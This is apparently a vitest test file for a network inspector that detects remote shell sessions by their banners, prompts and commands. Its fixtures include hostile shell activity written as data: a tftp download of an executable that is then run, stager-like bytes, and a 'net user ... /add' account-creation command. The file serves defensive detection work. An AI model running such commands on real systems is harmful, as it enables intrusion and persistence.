// Shells on bare connections, as cmd.exe, PowerShell, bash and netcat show themselves.

import { describe, expect, test } from 'vitest';
import { services } from '../../../src-core/event/services.ts';
import { eventsOf, inspect } from './inspect.ts';
import { SpokenFlow } from './spoken-flow.ts';

type Turn = readonly ['client' | 'server', string];

function told(...turns: readonly Turn[]) {
  const inspector = inspect(services);
  const flow = new SpokenFlow(inspector, { dstPort: 4444 });
  for (const [who, words] of turns) flow[who](words);
  inspector.end(0);
  const events = eventsOf(inspector).map(({ kind, details, isForward }) => {
    return { kind, isForward, ...JSON.parse(details) };
  });
  return { service: inspector.serviceOf(0), events: events.filter(({ kind }) => kind === 'shell') };
}

describe('a shell is told by what it says', () => {
  test.each([
    ['windows banner', 'Microsoft Windows [Version 10.0.19045.3930]\r\n'],
    ['windows banner', '(C) Copyright 1985-2001 Microsoft Corp.\r\n\r\nC:\\>'],
    ['windows prompt', '\r\nC:\\WINNT\\system32>'],
    ['powershell', 'PS C:\\Users\\ann> '],
    ['answer to id', 'uid=0(root) gid=0(root) groups=0(root)\n'],
    ['no terminal', "/bin/sh: 0: can't access tty; job control turned off\n# "],
    ['unix prompt', 'sh-4.2$ '],
    ['unix prompt', 'bash-3.2$ '],
  ])('%s', (sign, words) => {
    const { service, events } = told(['client', words]);
    expect(service).toBe('shell');
    expect(events).toMatchObject([{ sign, is_sure: true, isForward: true }]);
  });

  test('in pieces of a few letters, asked by the other side', () => {
    const { service, events } = told(
      ['server', 'id\n'],
      ...[...'uid=1000(ann) gid=1000(ann)\n'].map((letter): Turn => ['client', letter]),
      ['server', 'uname -a\n'],
      ['server', 'exit\n'],
    );
    expect(service).toBe('shell');
    expect(events).toMatchObject([
      { sign: 'answer to id', isForward: true },
      { command: 'id', is_known: true, is_from_src: false },
      { command: 'uname -a', is_known: true },
      { command: 'exit' },
    ]);
  });
});

test('behind what loads it, the shell is found and machine code is no command', () => {
  const { service, events } = told(
    ['server', '\xf0\0\0\0'],
    ['server', `\xfc\xe8\x89\0\0\0${'\x01'.repeat(200)}\n`],
    ['client', 'Microsoft Windows XP [Version 5.1.2600]'],
    ['server', 'dir\n'],
  );
  expect(service).toBe('shell');
  expect(events).toMatchObject([{ sign: 'windows banner' }, { command: 'dir', is_known: true }]);
});

test('a shell without a prompt is told by what is typed into it', () => {
  const { events } = told(
    ['server', 'tftp -i 192.0.2.7 GET a.exe\n'],
    ['client', 'Transfer successful\n'],
    ['server', 'start a.exe\n'],
  );
  expect(events).toMatchObject([
    { command: 'tftp -i 192.0.2.7 GET a.exe', is_telling: true },
    { command: 'start a.exe', is_telling: true },
  ]);
});

test('passwords are left out', () => {
  const { events } = told(
    ['client', 'sh-4.2$ '],
    ['server', 'su -\n'],
    ['client', 'Password: '],
    ['server', 'hunter2\n'],
    ['client', '# '],
    ['server', 'net user ann hunter2 /add\n'],
  );
  expect(JSON.stringify(events)).not.toContain('hunter2');
});

test.each([
  ['a protocol in lines', 'STATUS\n', 'OK 200 ready\n'],
  ['words that are commands as well', 'id 5\n', 'set 6\n'],
  ['a log with paths', 'opened C:\\data\\a.txt\n', 'noted\n'],
])('%s is none', (_name, said, answered) => {
  const { service, events } = told(['client', said], ['server', answered]);
  expect({ service, events }).toEqual({ service: '', events: [] });
});

test('a server that answers `id` to its client is told in any service', () => {
  const { service, events } = told(
    ['server', '220 FTP server ready\r\n'],
    ['client', 'SITE EXEC x\r\n'],
    ['server', 'uid=0(root) gid=0(root)\r\n'],
  );
  expect(service).toBe('ftp');
  expect(events).toMatchObject([{ sign: 'answer to id', service: 'ftp', isForward: false }]);
});
